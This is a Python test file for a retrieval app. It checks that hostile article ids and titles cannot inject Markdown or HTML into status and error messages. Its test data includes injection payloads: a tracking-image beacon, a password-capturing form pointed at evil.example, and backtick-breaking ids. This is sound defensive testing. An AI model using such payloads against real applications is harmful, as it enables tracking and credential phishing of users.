"""Article-derived strings in the app's Markdown/HTML cannot inject markup (issue 13, defect 5).

A JSONL id holding a backtick used to close the status message's code span and
start a remote image (a tracking beacon), a link and a form. Feeds now refuse
such ids, and an index written before that (or by hand) still cannot inject:
the real library handlers run against a real index holding hostile ids and
titles, and their Markdown is rendered by a CommonMark renderer with inline HTML
on (as permissive as Gradio's), which must produce no image, link or form.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from rag.app import library, render
from rag.errors import InputError
from rag.readers.clean import make_article
from rag.readers.jsonl import read_jsonl
from rag.stores.holder import holder_for
from tests.conftest import SEED

BEACON = "http://tracker.evil.example/beacon.png"
HOSTILE_IDS = [
    f"x`![b]({BEACON})`",
    "x` <form action=http://evil.example><input type=password name=p></form> `",
    "x`[click](http://evil.example)`",
    "<img src=http://evil.example/i.png>",
]
HOSTILE_TITLE = f"Title ![t]({BEACON}) <img src={BEACON}> [l](http://evil.example) <form></form>"
MD = MarkdownIt("commonmark", {"html": True})


def inert(markdown: str) -> bool:
    html = MD.render(markdown).lower()
    return "<img" not in html and "<a " not in html and "<form" not in html and "<input" not in html


def test_the_old_code_span_was_injectable():
    # Shows the renderer used here would catch the defect: what main rendered for the first id.
    assert not inert(f"✓ **added** `{HOSTILE_IDS[0]}` title")


@pytest.mark.parametrize("bad_id", [*HOSTILE_IDS, "a\u202eb", "a\u200bb", "a\x1b[31mb"])
def test_feeds_refuse_ids_with_backticks_angle_brackets_and_invisible_characters(bad_id):
    import json

    line = json.dumps({"id": bad_id, "text": "Some text of a story."})
    with pytest.raises(InputError, match="bad 'id'"):
        read_jsonl(line, Path("feed.jsonl"), 100_000)


@pytest.mark.parametrize("hostile", HOSTILE_IDS)
def test_code_spans_of_hostile_ids_are_inert(hostile):
    markdown = render.code(hostile)
    assert inert(markdown)
    assert "tracker" in MD.render(markdown) or "evil" in MD.render(markdown)  # shown, as text


@pytest.fixture(scope="module")
def hostile_settings(tmp_path_factory):
    from rag.api import build_index
    from rag.settings import Settings

    settings = Settings(index_dir=tmp_path_factory.mktemp("escaping") / "index")
    build_index([SEED], settings)
    articles = [
        make_article(HOSTILE_TITLE, f"Story number {n} about the harbour bridge opening.", id=article_id)
        for n, article_id in enumerate(HOSTILE_IDS)
    ]
    holder_for(settings).add(articles)  # the process's index, as the app sees it (ids the readers would refuse)
    return settings


@pytest.mark.slow
def test_library_messages_with_hostile_ids_and_titles_are_inert(hostile_settings, tmp_path):
    table, stats = library.refresh(hostile_settings)
    assert set(HOSTILE_IDS) <= set(table["id"]) and inert(stats)
    for article_id in HOSTILE_IDS:
        status, _, _ = library.remove_article(hostile_settings, article_id)
        assert "removed" in status and inert(status), status
        status, _, _ = library.remove_article(hostile_settings, article_id)  # now unknown: an error echoing it
        assert inert(status), status
    upload = tmp_path / "hostile.md"
    upload.write_text(f'---\ntitle: "{HOSTILE_TITLE}"\n---\nThe ferry resumed service on Monday after repairs.\n')
    status, _, _ = library.add_uploads(
        hostile_settings, [{"path": str(upload), "orig_name": "a`![b](beacon.png) <img src=x>.md"}]
    )
    assert "added" in status and inert(status), status


def test_chat_error_messages_hide_server_paths_and_stay_inert():
    message = render.error_markdown(f"cannot read /srv/secret/layout/index/manifest.json: bad ![b]({BEACON})")
    assert "/srv/secret" not in message and "manifest.json" in message and inert(message)
